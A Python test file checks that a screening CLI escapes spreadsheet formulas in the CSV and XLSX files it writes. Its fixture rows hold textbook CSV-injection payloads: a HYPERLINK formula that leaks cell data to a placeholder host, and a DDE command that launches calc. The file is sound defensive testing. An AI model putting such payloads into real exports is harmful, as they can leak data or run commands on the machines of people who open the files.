"""What the CLI writes for people is safe to open (issue 13, "never a wrong clear"): screening
results in CSV and XLSX hold no formula a spreadsheet would run."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from typer.testing import CliRunner

from graph.cli import app
from graph.safe_text import FORMULA_LEADS
from graph.store import Store

#: A screening file as a hostile or unlucky user could send it (written by the test; the
#: formulas are the textbook CSV-injection examples, the names two ships of the shared data).
HOSTILE_ROWS: list[dict[str, str]] = [
    {"ref": "r1", "name": '=HYPERLINK("http://example.invalid/?x="&A1,"MARIA")',
     "desk": "=cmd|' /C calc'!A0", "amount": "-5", "@note": "+1+1"},
    {"ref": "r2", "name": "MARIA", "desk": "\t=1+1", "amount": "\r=2+2", "@note": "@SUM(A1:A9)"},
    {"ref": "r3", "name": "-MARIA", "desk": "+44 20 7946 0000", "amount": "12",
     "@note": "-2+3+cmd|' /C calc'!A0"},
    {"ref": "r4", "name": "@ANGARA", "desk": "ops\x1b[2J", "amount": "", "@note": "plain"},
]


def _expected(value: str) -> str:
    value = value.replace("\x1b", "")  # an XLSX cell cannot hold ESC; the CSV says the same
    return "'" + value if value.startswith(FORMULA_LEADS) else value


def _screen(ship_store: Store, tmp_path: Path, suffix: str) -> Path:
    source = tmp_path / "hostile.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(HOSTILE_ROWS[0]))
        writer.writeheader()
        writer.writerows(HOSTILE_ROWS)
    out = tmp_path / f"screened{suffix}"
    result = CliRunner().invoke(app, ["screen", str(source), "-o", str(out),
                                      "--db", str(ship_store.path)])
    assert result.exit_code == 0, result.output
    return out


def _by_ref(header: list[str], rows: list[list[Any]]) -> dict[str, dict[str, Any]]:
    """The first output line of each input row, by its reference."""
    out: dict[str, dict[str, Any]] = {}
    for row in rows:
        line = dict(zip(header, row, strict=True))
        out.setdefault(line["ref"], line)
    return out


def test_screening_csv_cells_never_start_a_formula(ship_store: Store, tmp_path: Path) -> None:
    out = _screen(ship_store, tmp_path, ".csv")
    text = out.read_text(encoding="utf-8")
    with out.open(newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle))
    assert "'@note" in header  # a column name is a cell too
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_LEADS), cell
    lines = _by_ref([h.removeprefix("'") for h in header], rows)
    for given in HOSTILE_ROWS:
        for column, value in given.items():
            assert lines[given["ref"]][column] == _expected(value), (column, value)
    # Every field is quoted: a spreadsheet that splits on ';' still sees one field.
    assert text.startswith('"ref","name",')
    # The rows still screen (the quote is in the output only): MARIA finds the MARIAs.
    assert lines["r2"]["decision"] in ("match", "review")


def test_screening_xlsx_cells_are_text_never_formulas(ship_store: Store, tmp_path: Path) -> None:
    out = _screen(ship_store, tmp_path, ".xlsx")
    sheet = load_workbook(out).worksheets[0]
    rows = list(sheet.iter_rows())
    assert rows
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if cell.data_type == "s" and cell.value is not None:
                assert not str(cell.value).startswith(FORMULA_LEADS), cell.value
    header = [str(c.value).removeprefix("'") for c in rows[0]]
    values = [["" if c.value is None else c.value for c in row] for row in rows[1:]]
    lines = _by_ref(header, values)
    for given in HOSTILE_ROWS:
        for column, value in given.items():
            assert lines[given["ref"]][column] == _expected(value), (column, value)
    # Passed-through numbers are text like every input value; the computed score is a number.
    scores = [row[header.index("score")] for row in rows[1:] if row[header.index("rank")].value]
    assert scores and all(c.data_type == "n" for c in scores)
